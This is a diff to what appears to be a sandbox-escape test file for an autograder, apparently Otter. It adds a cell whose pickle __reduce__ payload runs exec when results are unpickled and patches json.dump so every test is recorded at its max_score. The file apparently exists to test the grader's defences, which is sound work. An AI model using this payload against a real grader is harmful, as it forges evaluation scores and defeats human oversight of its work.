@@ -1,5 +1,27 @@
 """Tries to become root or to get out: setuid programs, namespaces, chroot, capabilities, mounts, new limits."""
 
+OTTER = "points"
+OTTER_CELLS = [
+    r"""
+import pickle
+IN_THE_GRADER = '''
+import json
+real = json.dump
+def dump(found, file, **form):
+    for test in found["tests"]:
+        test["score"] = test["max_score"]
+    real(found, file, **form)
+json.dump = dump
+'''
+class Intruder:
+    def __reduce__(self): return exec, (IN_THE_GRADER, {})
+real = pickle.dump
+def dump(results, file):
+    results.intruder = Intruder()
+    real(results, file)
+pickle.dump = dump
+"""
+]
 CELLS = [
     r"""
 import ctypes, os, resource, subprocess
